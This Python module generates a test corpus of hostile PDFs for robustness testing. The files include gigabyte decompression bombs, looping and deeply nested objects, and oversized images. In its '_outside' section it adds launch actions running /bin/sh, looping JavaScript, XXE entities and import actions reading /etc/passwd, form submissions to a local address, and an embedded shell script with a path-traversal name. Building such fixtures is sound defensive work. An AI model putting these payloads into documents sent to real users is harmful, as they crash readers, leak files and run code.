"""Documents (PDF) that swell, loop, reach outside, or promise pages of kilometres."""

from __future__ import annotations

import zlib
from collections.abc import Iterator, Mapping, Sequence

from .pictures import saved, zeros


def files() -> Iterator[tuple[str, bytes]]:
    """All of them."""
    for part in (_pages, _streams, _objects, _outside):
        for name, data in part():
            yield f"pdf-{name}.pdf", data


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A stream object."""
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(data), data)


def pdf(
    content: bytes = b"1 0 0 rg 9 9 50 50 re f", *, page: bytes = b"/MediaBox[0 0 200 100]", resources: bytes = b"",
    catalogue: bytes = b"", objects: Mapping[int, bytes] | None = None, trailer: bytes = b"", packed: bytes = b"",
) -> bytes:  # fmt: skip
    """A document of one page. Objects from 10 on are free; ``packed`` are entries of the content's dictionary."""
    bodies: dict[int, bytes] = {
        1: b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue,
        2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        3: b"<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<<%s>>%s>>" % (resources, page),
        4: stream(content, packed),
        **(objects or {}),
    }
    return written(bodies, trailer)


def written(bodies: Mapping[int, bytes], trailer: bytes = b"") -> bytes:
    """A file of these objects with a table of their places."""
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in bodies.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, size = len(out), max(bodies) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 %s \n" % (places.get(number, 0), b"n" if number in places else b"f")
    out += b"trailer<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)
    return bytes(out)


def _picture(entries: bytes, data: bytes, width: int = 100, height: int = 100) -> bytes:
    head = b"/Type/XObject/Subtype/Image/Width %d/Height %d" % (width, height)
    return stream(data, head + entries)


def _showing(picture: bytes, **more: bytes) -> bytes:
    return pdf(b"200 0 0 100 0 0 cm /I Do", resources=b"/XObject<</I 10 0 R>>", objects={10: picture}, **more)


def _pages() -> Iterator[tuple[str, bytes]]:
    for name, box in {
        "of-kilometres": b"/MediaBox[0 0 99999999 99999999]",
        "of-five-metres": b"/MediaBox[0 0 14400 14400]",
        "of-user-units": b"/MediaBox[0 0 14400 14400]/UserUnit 75000",
        "of-user-units-below-zero": b"/MediaBox[0 0 200 100]/UserUnit -3",
        "of-tiny-user-units": b"/MediaBox[0 0 200 100]/UserUnit 0.0000001",
        "of-none": b"/MediaBox[0 0 0 0]",
        "upside-down": b"/MediaBox[200 100 0 0]",
        "without-a-box": b"",
        "with-a-box-of-words": b"/MediaBox[(a)(b)/c null]",
        "beyond-all-numbers": b"/MediaBox[0 0 1e400 999999999999999999999999999999999999999999]",
        "a-hair-wide": b"/MediaBox[0 0 0.001 14400]",
        "cropped-to-nothing": b"/MediaBox[0 0 200 100]/CropBox[900 900 990 990]",
        "turned-by-45": b"/MediaBox[0 0 200 100]/Rotate 45",
        "turned-by-billions": b"/MediaBox[0 0 200 100]/Rotate 90000000000",
    }.items():
        yield f"page-{name}", pdf(page=box)
    kids = b" ".join(b"%d 0 R" % number for number in range(10, 10_010))
    many = dict.fromkeys(range(10, 10010), b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>")
    yield "10000-pages", pdf(objects={2: b"<</Type/Pages/Count 10000/Kids[%s]>>" % kids, **many})
    yield "pages-in-a-ring", pdf(objects={2: b"<</Type/Pages/Count 1/Kids[2 0 R 3 0 R]>>"})
    yield "pages-promised", pdf(objects={2: b"<</Type/Pages/Count 2147483647/Kids[3 0 R]>>"})
    yield "no-pages", pdf(objects={2: b"<</Type/Pages/Count 0/Kids[]>>"})
    deep = {n: b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (n + 1) for n in range(10, 5_000)}
    yield "pages-5000-deep", pdf(objects={2: b"<</Type/Pages/Count 1/Kids[10 0 R]>>", **deep, 5_000: b"<</Type/Page>>"})


def _streams() -> Iterator[tuple[str, bytes]]:
    bomb = zeros(1 << 30)
    yield "content-of-a-gigabyte", pdf(bomb, packed=b"/Filter/FlateDecode")
    yield (
        "picture-of-a-gigabyte",
        _showing(_picture(b"/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode", bomb)),
    )
    yield "profile-of-a-gigabyte", pdf(
        b"/C cs 1 0 0 sc 9 9 50 50 re f", resources=b"/ColorSpace<</C[/ICCBased 10 0 R]>>",
        objects={10: stream(bomb, b"/N 3/Filter/FlateDecode")},
    )  # fmt: skip
    yield "font-of-a-gigabyte", pdf(
        b"BT /F 20 Tf 9 9 Td (W) Tj ET", resources=b"/Font<</F 10 0 R>>",
        objects={10: b"<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor 11 0 R>>",
                 11: b"<</Type/FontDescriptor/FontName/X/Flags 4/FontFile2 12 0 R>>",
                 12: stream(bomb, b"/Filter/FlateDecode")},
    )  # fmt: skip
    yield "picture-of-60000", _showing(_picture(b"/ColorSpace/DeviceRGB/BitsPerComponent 8", b"x" * 99, 60_000, 60_000))
    yield "picture-below-zero", _showing(_picture(b"/ColorSpace/DeviceRGB/BitsPerComponent 8", b"x" * 99, -5, -5))
    page = zlib.compress(bytes(20_000 * 2_500), 9)
    yield (
        "picture-of-400-megapixels",
        _showing(_picture(b"/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/FlateDecode", page, 20_000, 20_000)),
    )
    yield "soft-mask-of-400-megapixels", pdf(
        b"200 0 0 100 0 0 cm /I Do", resources=b"/XObject<</I 10 0 R>>",
        objects={10: _picture(b"/ColorSpace/DeviceGray/BitsPerComponent 8/SMask 11 0 R", b"x" * 100, 10, 10),
                 11: _picture(b"/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode", zeros(400_000_000),
                               20_000, 20_000)},
    )  # fmt: skip
    for bits, told in ((b"\0\0\xea\x60", "60000"), (b"\xff\xff\xff\xff", "2-32")):
        head = b"\0\0\0\0\x30\0\x01\0\0\0\x13" + bits * 2 + bytes(11)
        region = (
            b"\0\0\0\1\x26\0\x01\0\0\0\x30" + bits * 2 + bytes(10) + b"\0" + b"\3\xff\xfd\xff\2\xfe\xfe\xfe" + bytes(22)
        )
        yield (
            f"jbig2-canvas-of-{told}",
            _showing(
                _picture(b"/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/JBIG2Decode", head + region, 60_000, 60_000)
            ),
        )
    symbols = (
        b"\0\0\0\0\x00\0\x01\0\0\0\x1a\x00\x00\3\xff\xfd\xff\2\xfe\xfe\xfe\xff\xff\xff\xff\xff\xff\xff\xff" + bytes(9)
    )
    yield (
        "jbig2-symbols-of-2-32",
        _showing(_picture(b"/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/JBIG2Decode", symbols)),
    )
    box = b"\0\0\0\x0cjP  \r\n\x87\n\0\0\0\x14ftypjp2 \0\0\0\0jp2 \0\0\0\x2djp2h"
    box += b"\0\0\0\x16ihdr\0\0\xea\x60\0\0\xea\x60\0\3\7\7\0\0"
    yield "jpeg-2000-of-60000", _showing(_picture(b"/Filter/JPXDecode", box + bytes(99)))
    fax = (
        b"/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 60000/Rows 60000>>"
    )
    yield "fax-of-60000", _showing(_picture(fax, b"\0\x10\x01" * 50, 60_000, 60_000))
    yield (
        "columns-of-2-31",
        pdf(zlib.compress(b"x" * 99), packed=b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 2147483647>>"),
    )
    grey = saved(_noise(), "JPEG", progressive=True)
    at = grey.index(b"\xff\xc2")
    wide = grey[: at + 5] + b"\xff\xdc\xff\xdc" + grey[at + 9 :]
    yield (
        "jpeg-of-65500",
        _showing(_picture(b"/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/DCTDecode", wide, 65_500, 65_500)),
    )
    scans = [n for n in range(len(grey) - 1) if grey[n : n + 2] == b"\xff\xda"]
    many = grey[:-2] + grey[scans[1] : scans[2]] * 9_000 + grey[-2:]
    yield (
        "jpeg-of-9000-scans",
        _showing(_picture(b"/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/DCTDecode", many, 64, 64)),
    )
    twice = zlib.compress(zlib.compress(zeros(1 << 28), 9), 9)
    yield "flate-of-flate-of-flate", pdf(twice, packed=b"/Filter[/FlateDecode/FlateDecode/FlateDecode]")
    yield "1000-filters", pdf(b"00>" * 50, packed=b"/Filter[%s]" % (b"/ASCIIHexDecode" * 1_000))
    yield "runs", pdf(b"\x81 " * 4_000_000, packed=b"/Filter/RunLengthDecode")
    yield "length-that-lies", pdf().replace(b"/Length 23", b"/Length 999999999")
    yield "length-of-itself", pdf(objects={4: b"<</Length 4 0 R>>stream\nx\nendstream"})


def _noise() -> object:
    from PIL import Image

    return Image.effect_noise((64, 64), 60)


def _objects() -> Iterator[tuple[str, bytes]]:
    good = pdf()
    yield "table-in-a-ring", good.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % good.index(b"xref"))
    yield "table-of-a-billion", good.replace(b"xref\n0 5", b"xref\n0 1999999999")
    yield "no-table", good[: good.index(b"xref")]
    yield "no-root", good.replace(b"/Root 1 0 R", b"")
    yield "root-of-another-kind", good.replace(b"/Root 1 0 R", b"/Root 4 0 R")
    yield "object-is-itself", pdf(objects={10: b"10 0 R"}, page=b"/MediaBox 10 0 R")
    yield (
        "objects-in-a-ring",
        pdf(objects={10: b"11 0 R", 11: b"10 0 R"}, resources=b"/Font 10 0 R", page=b"/MediaBox[0 0 9 9]"),
    )
    yield "arrays-50000-deep", pdf(objects={10: b"[" * 50_000 + b"]" * 50_000}, page=b"/MediaBox[0 0 9 9]/X 10 0 R")
    yield "dictionaries-50000-deep", pdf(objects={10: b"<</A" * 50_000 + b"1" + b">>" * 50_000}, catalogue=b"/X 10 0 R")
    yield "object-of-2-31", good.replace(b"4 0 obj", b"2147483647 0 obj").replace(b"4 0 R", b"2147483647 0 R")
    packed = b" ".join(b"%d 0" % n for n in range(10, 20_000)) + b" null"
    yield "objects-in-a-stream", pdf(objects={9: stream(packed, b"/Type/ObjStm/N 2147483647/First 9")})
    yield "object-stream-of-itself", pdf(objects={9: stream(b"9 0 null", b"/Type/ObjStm/N 1/First 4/Extends 9 0 R")})
    yield "names-without-end", pdf(b"/" + b"x" * 5_000_000 + b" gs 9 9 9 9 re f")
    locked = b"/Encrypt<</Filter/Standard/V 5/R 6/Length 256/O(%s)/U(%s)/OE(%s)/UE(%s)/Perms(%s)/P -1"
    locked += b"/CF<</C<</CFM/AESV3>>>>/StmF/C/StrF/C>>"
    yield (
        "locked-by-nonsense",
        pdf(trailer=locked % (b"o" * 48, b"u" * 48, b"o" * 32, b"u" * 32, b"p" * 16) + b"/ID[(a)(b)]"),
    )
    yield "locked-by-an-unknown-lock", pdf(trailer=b"/Encrypt<</Filter/Unknown/V 99>>/ID[(a)(b)]")
    yield (
        "layers-in-a-ring",
        pdf(
            catalogue=b"/OCProperties<</OCGs[10 0 R]/D<</Order[10 0 R 11 0 R]/OFF[10 0 R]>>>>",
            objects={10: b"<</Type/OCG/Name(x)>>", 11: b"[11 0 R 11 0 R]"},
        ),
    )
    yield (
        "outline-in-a-ring",
        pdf(catalogue=b"/Outlines 10 0 R", objects={10: b"<</First 10 0 R/Last 10 0 R/Next 10 0 R>>"}),
    )
    yield (
        "names-in-a-ring",
        pdf(catalogue=b"/Names<</EmbeddedFiles 10 0 R/JavaScript 10 0 R>>", objects={10: b"<</Kids[10 0 R 10 0 R]>>"}),
    )
    yield (
        "fields-in-a-ring",
        pdf(catalogue=b"/AcroForm<</Fields[10 0 R]>>", objects={10: b"<</T(x)/Kids[10 0 R]/Parent 10 0 R>>"}),
    )


def _outside() -> Iterator[tuple[str, bytes]]:
    address = b"http://127.0.0.1:9/customer"
    actions: Sequence[tuple[str, bytes]] = (
        ("address", b"<</S/URI/URI(%s)>>" % address),
        ("program", b"<</S/Launch/F(/bin/sh)/NewWindow true>>"),
        ("script", b"<</S/JavaScript/JS(app.launchURL\\('%s'\\); while\\(true\\);)>>" % address),
        ("form", b"<</S/SubmitForm/F(%s)>>" % address),
        ("data", b"<</S/ImportData/F(/etc/passwd)>>"),
        ("document", b"<</S/GoToR/F(/etc/passwd)/D[0/Fit]>>"),
    )
    for name, action in actions:
        yield (
            f"opens-a-{name}",
            pdf(catalogue=b"/OpenAction" + action, page=b"/MediaBox[0 0 200 100]/AA<</O%s>>" % action),
        )
    for name, place in (("a-file", b"/etc/passwd"), ("an-address", address), ("a-share", b"//127.0.0.1/share/x")):
        yield f"stream-in-{name}", pdf(objects={4: b"<</F(%s)/Length 0>>stream\n\nendstream" % place})
        yield f"picture-in-{name}", _showing(_picture(b"/ColorSpace/DeviceGray/BitsPerComponent 8/F(%s)" % place, b""))
        form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F<</Type/Filespec/F(%s)>>/Page 0>>" % place
        yield f"form-in-{name}", _showing(stream(b"", form))
    prepress = b"/OPI<</2.0<</Type/OPI/Version 2.0/F(/etc/passwd)/Size[99 99]>>>>"
    yield (
        "picture-of-a-prepress-server",
        _showing(_picture(b"/ColorSpace/DeviceGray/BitsPerComponent 8" + prepress, b"x" * 100, 10, 10)),
    )
    yield (
        "attached-program",
        pdf(
            catalogue=b"/Names<</EmbeddedFiles<</Names[(a)10 0 R]>>>>/AF[10 0 R]",
            objects={
                10: b"<</Type/Filespec/F(../../../tmp/attached.sh)/EF<</F 11 0 R>>>>",
                11: stream(b"#!/bin/sh\ntouch /tmp/attached"),
            },
        ),
    )
    yield (
        "forms-of-another-kind",
        pdf(
            catalogue=b"/AcroForm<</XFA 10 0 R>>",
            objects={10: stream(b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>")},
        ),
    )
    yield (
        "metadata-with-entities",
        pdf(
            catalogue=b"/Metadata 10 0 R",
            objects={
                10: stream(
                    b"<!DOCTYPE x [<!ENTITY a SYSTEM 'http://127.0.0.1:9/'>]><x>&a;</x>", b"/Type/Metadata/Subtype/XML"
                )
            },
        ),
    )
